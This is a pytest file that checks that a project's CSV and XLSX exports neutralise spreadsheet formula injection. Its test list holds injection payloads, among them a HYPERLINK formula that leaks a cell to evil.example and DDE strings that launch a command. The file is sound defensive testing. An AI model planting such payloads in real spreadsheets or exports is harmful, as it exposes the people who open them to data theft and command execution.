"""CSV and XLSX exports never carry a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from dueprocess.exports import csv_text, neutralise, restore
from dueprocess.intake.actions import export_signals, import_signals, mark_fraudulent
from dueprocess.intake.models import FraudSignal
from dueprocess.transparency.exporters import report_xlsx, table_csv
from dueprocess.transparency.periods import parse_period
from dueprocess.transparency.reports import Report, Table

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_prefix_is_neutralised_and_restored(attack: str) -> None:
    safe = neutralise(attack)
    assert safe.startswith("'") and restore(safe) == attack
    row = next(csv.reader(io.StringIO(csv_text(None, [[attack]]))))
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_dates_and_phone_numbers_stay_as_they_are() -> None:
    for value in ("-3", "+49 30 1234567", "2025-03-11", "plain text", 7, -2.5, None):
        assert neutralise(value) == value


@pytest.mark.django_db
def test_fraud_signal_export_is_safe_and_imports_back() -> None:
    mark_fraudulent("domain", "hkpolice-gov.example", reason=ATTACKS[0], user=None)
    mark_fraudulent("email", "x@lookalike.example", reason=ATTACKS[1], user=None)
    text = export_signals()
    for attack in ATTACKS[:2]:
        assert f"'{attack}" in text.replace('""', '"')
    for row in csv.reader(io.StringIO(text)):
        assert not any(c.startswith(("=", "+", "-", "@")) for c in row), row
    FraudSignal.objects.all().delete()
    result = import_signals(text.encode(), user=None)
    assert result.added == 2 and result.rejected == 0
    assert set(FraudSignal.objects.values_list("reason", flat=True)) == set(ATTACKS[:2])


def _report(value: Any) -> Report:
    table = Table("restriction_requests", "Restrictions", ("Country", "Requests"),
                  [(value, 1)], numeric=("Requests",))
    return Report(parse_period("2020-H2"), {"restriction_requests": table})


@pytest.mark.parametrize("attack", ATTACKS)
def test_transparency_csv_and_xlsx_hold_no_formula(attack: str) -> None:
    report = _report(attack)
    rows = list(csv.reader(io.StringIO(table_csv(report["restriction_requests"]).decode())))
    assert rows[1] == [neutralise(attack), "1"]
    book = load_workbook(io.BytesIO(report_xlsx(report, list(report.tables.values()))))
    cell = book["restriction_requests"]["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'")
    assert cell.value.replace("\n", "\r") == neutralise(attack).replace("\n", "\r")
    assert book["restriction_requests"]["B2"].value == 1
